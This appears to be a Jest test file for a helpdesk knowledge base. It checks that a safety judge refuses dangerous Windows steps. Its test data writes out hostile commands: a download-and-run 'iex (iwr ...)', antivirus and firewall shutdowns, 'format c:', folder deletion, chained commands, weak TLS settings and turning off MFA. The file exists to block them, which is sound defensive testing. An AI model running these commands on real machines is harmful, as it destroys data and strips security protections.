import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import type { Command, StepContent } from '../../src/knowledge/content.ts';
import { loadKnowledge } from '../../src/knowledge/load.ts';
import { judge } from '../../src/proof/judge.ts';

const { safety } = loadKnowledge(join(import.meta.dirname, '../../knowledge'));
const WINHTTP = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\WinHttp';
const SCHANNEL = 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\SCHANNEL';
const IDENTITY = 'HKCU\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\Identity';

// Every fact is granted, R3 and the helpdesk. What is still refused may appear under no facts.
describe('under no facts does a step pass that shows', () => {
  it.each<[string, Command['shell'], string]>([
    ['a DHE suite switched on', 'powershell', 'Enable-TlsCipherSuite -Name "TLS_DHE_RSA_WITH_AES_256_GCM_SHA384" -Position 0'],
    ['a weak suite switched on', 'powershell', 'Enable-TlsCipherSuite -Name "TLS_RSA_WITH_RC4_128_SHA"'],
    ['a suite of TLS 1.3 switched off', 'powershell', 'Disable-TlsCipherSuite -Name "TLS_AES_256_GCM_SHA384"'],
    ['DHE switched on in Schannel', 'cmd', `reg add "${SCHANNEL}\\KeyExchangeAlgorithms\\Diffie-Hellman" /v Enabled /t REG_DWORD /d 1 /f`],
    ['TLS 1.0', 'cmd', `reg add "${SCHANNEL}\\Protocols\\TLS 1.0\\Client" /v Enabled /t REG_DWORD /d 1 /f`],
    ['TLS 1.2 switched off', 'cmd', `reg add "${SCHANNEL}\\Protocols\\TLS 1.2\\Client" /v Enabled /t REG_DWORD /d 0 /f`],
    ['the bit of SSL 3.0', 'cmd', `reg add "${WINHTTP}" /v DefaultSecureProtocols /t REG_DWORD /d 0xAA0 /f`],
    ['the bit of SSL 2.0', 'cmd', `reg add "${WINHTTP}" /v DefaultSecureProtocols /t REG_DWORD /d 0xA88 /f`],
    ['a value without TLS 1.2', 'cmd', `reg add "${WINHTTP}" /v DefaultSecureProtocols /t REG_DWORD /d 0x280 /f`],
    ['a value in decimals that are no right one', 'cmd', `reg add "${WINHTTP}" /v DefaultSecureProtocols /t REG_DWORD /d 2720 /f`],
    ['a whole key taken away', 'cmd', `reg delete "${WINHTTP}" /f`],
    ['another value than the rule is about', 'cmd', `reg add "${WINHTTP}" /v Other /t REG_DWORD /d 0xA00 /f`],
    ['modern authentication switched off', 'cmd', `reg add "${IDENTITY}" /v EnableADAL /t REG_DWORD /d 0 /f`],
    ['WAM switched off', 'cmd', `reg add "${IDENTITY}" /v DisableADALatopWAMOverride /t REG_DWORD /d 1 /f`],
    ['more of Office than its identity', 'cmd', 'reg delete "HKCU\\SOFTWARE\\Microsoft\\Office\\16.0\\Common" /f'],
    ['the antivirus switched off', 'powershell', 'Set-MpPreference -DisableRealtimeMonitoring $true'],
    ['the firewall switched off', 'cmd', 'netsh advfirewall set allprofiles state off'],
    ['the old tracing', 'cmd', 'netsh winhttp set tracing level=verbose state=enabled'],
    ['the Registry Editor', 'run', 'regedit'],
    ['a reset whose path lacks its quotes', 'run', 'C:\\Program Files\\Microsoft OneDrive\\onedrive.exe /reset'],
    ['a folder of OneDrive deleted', 'cmd', 'rmdir /s /q "%UserProfile%\\OneDrive"'],
    ['a reset with something hung on to it', 'run', '%localappdata%\\Microsoft\\OneDrive\\onedrive.exe /reset & del x'],
    ['a reading with a change hung on to it', 'powershell', 'Get-TlsCipherSuite | ForEach-Object { Disable-TlsCipherSuite $_.Name }'],
    ['a harmless one with a dangerous one behind it', 'cmd', 'ipconfig /flushdns && netsh int ip reset'],
    ['a download that is run', 'powershell', 'iex (iwr https://example.com/x.ps1)'],
    ['a certificate that is not looked at', 'terminal', 'curl -k https://login.microsoftonline.com'],
    ['a command nobody has thought of', 'cmd', 'format c:'],
  ])('%s', (_name, shell, text) => {
    expect(isRefused(showing({ shell, text, note: null }))).toBe(true);
  });

  it.each<[string, string, string]>([
    ['TLS 1.0 ticked', 'Tick Use TLS 1.0 and Use TLS 1.2.', '「TLS 1.0 の使用」をオンにします。'],
    ['a DHE suite', 'Add TLS_DHE_RSA_WITH_AES_256_GCM_SHA384 to the list.', 'TLS_DHE_RSA_WITH_AES_256_GCM_SHA384 を追加します。'],
    ['Replace in Group Policy Preferences', 'Set Action to Replace.', '「アクション」で「置換」を選びます。'],
    ['WAM switched off', 'Disable WAM.', 'WAM を無効にします。'],
    ['a second factor switched off', 'Turn off multi-factor authentication.', '多要素認証を無効にします。'],
    ['a warning passed over', 'Ignore the certificate warning.', '証明書の警告を無視します。'],
    ['a tool of a third party', 'Run CCleaner.', 'CCleaner を実行します。'],
    ['the OneDrive folder deleted', 'Delete the OneDrive folder.', 'OneDrive フォルダーを削除します。'],
  ])('in either language, %s', (_name, en, ja) => {
    expect(isRefused({ ...showing(null), actions: [{ en, ja: '' }] })).toBe(true);
    expect(isRefused({ ...showing(null), actions: [{ en: '', ja }] })).toBe(true);
  });
});

it('is not refused when it is one of those that may be shown', () => {
  expect(isRefused(showing({ shell: 'cmd', text: `reg add "${WINHTTP}" /v DefaultSecureProtocols /t REG_DWORD /d 0xA00 /f`, note: null }))).toBe(
    false,
  );
  expect(isRefused({ ...showing(null), actions: [{ en: 'Tick Use TLS 1.2. Leave TLS 1.0 as it is.', ja: 'TLS 1.0 は変更しません。' }] })).toBe(false);
});

/** Whether it is forbidden or unknown; not for want of a check or of what comes before. */
function isRefused(step: StepContent): boolean {
  const forbidden = new Set(safety.filter((rule) => rule.isForbidden).map((rule) => rule.id));
  return judge({ step, before: [] }, 'helpdesk', () => true, safety).some(({ rule }) => rule === 'law' || forbidden.has(rule));
}

function showing(command: Command | null): StepContent {
  const words = { en: 'x', ja: 'x' };
  return {
    id: 'a',
    risk: 'R3',
    audience: 'helpdesk',
    when: null,
    guard: null,
    learns: null,
    title: words,
    why: words,
    actions: [words],
    commands: command === null ? [] : [command],
    needsAdmin: true,
    checks: [words],
    verify: words,
    undo: words,
    isUndoable: false,
    notWhere: null,
    departs: null,
    labels: null,
    sources: [],
  };
}
